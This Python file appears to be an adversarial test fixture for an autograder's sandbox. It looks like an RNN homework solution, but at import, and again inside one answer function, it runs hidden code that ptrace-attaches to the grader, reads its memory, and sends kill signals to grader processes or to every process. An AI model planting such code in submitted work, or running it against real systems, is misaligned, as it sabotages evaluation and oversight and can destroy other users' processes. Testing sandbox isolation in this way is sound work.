"""Attack: kill, stop or trace the grader from inside the student's process.

At import and again in rnn_b_dloss_dx_depends_on: PTRACE_ATTACH to the parent (then a
PEEKDATA and a detach), process_vm_readv of the parent's first readable mapping, then
SIGSTOP, SIGTERM and SIGKILL to every target (os.kill, killpg of its group, and
pidfd_send_signal through pidfd_open). Its own pid is always spared.

Targets: as a dedicated sandbox user (a name starting "ag-student") every pid in /proc,
every pid from 2 to 65535 blindly, and kill(-1, SIGKILL). As any other user (reduced
isolation, or a failed privilege drop: where kill(-1) would take a developer's whole
session with it) only the grading tree: its ancestors up to run_autograder and every
grader or zygote process ("-m autograder", "run_autograder" or "worker.py --zygote" in
its command line). Its own threads are always spared (kill() of a thread id stops the
whole process). Either way the grader must survive and write a valid results.json.

Parts (a)-(e) are correct and (f) is wrong (all four items): exactly 10 points.
"""

import ctypes
import os
import platform
import pwd
import signal
import struct

import numpy as np

MACHINE = platform.machine()
PTRACE = {"x86_64": 101, "aarch64": 117}.get(MACHINE)
VM_READV = {"x86_64": 310, "aarch64": 270}.get(MACHINE)
PIDFD_OPEN, PIDFD_SEND_SIGNAL = 434, 424
SELF = os.getpid()
GRADER_WORDS = ("-m autograder", "run_autograder", "worker.py --zygote")
LOG = []


def _libc():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    libc.ptrace.restype = ctypes.c_long
    return libc


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            return stream.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return int(stream.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def dedicated_user():
    try:
        return pwd.getpwuid(os.geteuid()).pw_name.startswith("ag-student")
    except KeyError:
        return False


def targets():
    visible = [int(e) for e in os.listdir("/proc") if e.isdigit()]
    # its own threads too: kill() of a thread id stops the whole process (numpy's threads)
    spared = {SELF, *(int(t) for t in os.listdir("/proc/self/task") if t.isdigit())}
    if dedicated_user():
        return sorted(set(visible) | set(range(2, 65536)) - spared), True
    tree, pid = [], _parent(SELF)
    while pid > 1:
        tree.append(pid)
        if "run_autograder" in _cmdline(pid):
            break
        pid = _parent(pid)
    tree += [p for p in visible if any(word in _cmdline(p) for word in GRADER_WORDS)]
    return sorted(set(tree) - spared), False


def trace_parent(libc):
    parent = os.getppid()
    if libc.ptrace(16, parent, None, None) != 0:  # PTRACE_ATTACH
        return f"ptrace attach {parent}: errno {ctypes.get_errno()}"
    try:
        for _ in range(100):
            if os.waitpid(parent, os.WNOHANG | 0x40000000)[0]:  # __WALL
                break
            os.sched_yield()
        word = libc.ptrace(2, parent, ctypes.c_void_p(0x400000), None)  # PTRACE_PEEKDATA
        return f"ptrace attached to {parent}, word {word:#x}"
    finally:
        libc.ptrace(17, parent, None, None)  # PTRACE_DETACH


def read_parent(libc):
    parent = os.getppid()
    try:
        with open(f"/proc/{parent}/maps") as stream:
            start = int(next(line for line in stream if line.split()[1].startswith("r")).split("-")[0], 16)
    except (OSError, StopIteration, ValueError):
        start = 0x400000
    buffer = ctypes.create_string_buffer(64)
    local = struct.pack("QQ", ctypes.addressof(buffer), 64)
    remote = struct.pack("QQ", start, 64)
    got = libc.syscall(ctypes.c_long(VM_READV), ctypes.c_long(parent), ctypes.c_char_p(local), ctypes.c_long(1),
                       ctypes.c_char_p(remote), ctypes.c_long(1), ctypes.c_long(0))
    if got > 0:
        return f"process_vm_readv {parent}: {got} bytes {buffer.raw[:got]!r}"
    return f"process_vm_readv: errno {ctypes.get_errno()}"


def signal_everyone():
    libc = _libc()
    for probe in (trace_parent, read_parent):
        try:
            LOG.append(probe(libc))
        except Exception as error:  # noqa: BLE001
            LOG.append(f"{probe.__name__}: {error!r}")
    pids, everything = targets()
    hit = {}
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in pids:
            try:
                os.kill(pid, sig)
                hit[sig.name] = hit.get(sig.name, 0) + 1
            except OSError:
                pass
    for pid in pids[:4096]:
        try:
            if os.getpgid(pid) != os.getpgid(0):
                os.killpg(os.getpgid(pid), signal.SIGKILL)
        except OSError:
            pass
        fd = libc.syscall(ctypes.c_long(PIDFD_OPEN), ctypes.c_long(pid), ctypes.c_long(0))
        if fd >= 0:
            libc.syscall(ctypes.c_long(PIDFD_SEND_SIGNAL), ctypes.c_long(fd), ctypes.c_long(9), None, ctypes.c_long(0))
            os.close(fd)
    if everything:
        try:
            os.kill(-1, signal.SIGKILL)
            hit["kill(-1)"] = 1
        except OSError:
            pass
    LOG.append(f"{len(pids)} targets ({'all' if everything else 'grading tree'}), signals delivered: {hit}")


try:
    signal_everyone()
except Exception as _error:  # noqa: BLE001
    LOG.append(repr(_error))
print("signal_grader:", "; ".join(LOG)[:3000])


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (s_dim, s_dim), "W_sx": (s_dim, x_dim), "W_o": (p_dim, s_dim)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return W_sx.T @ (W_o.T @ dloss_dz2)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (s_dim, s_dim + x_dim), "W_ox": (p_dim, s_dim + x_dim)}


def rnn_b_f2(z):
    exps = np.exp(z - np.max(z, axis=0, keepdims=True))
    return exps / np.sum(exps, axis=0, keepdims=True)


def rnn_b_next_input(p_t):
    return p_t


def rnn_b_dloss_dx_depends_on():
    try:
        signal_everyone()
    except Exception:  # noqa: BLE001
        pass
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
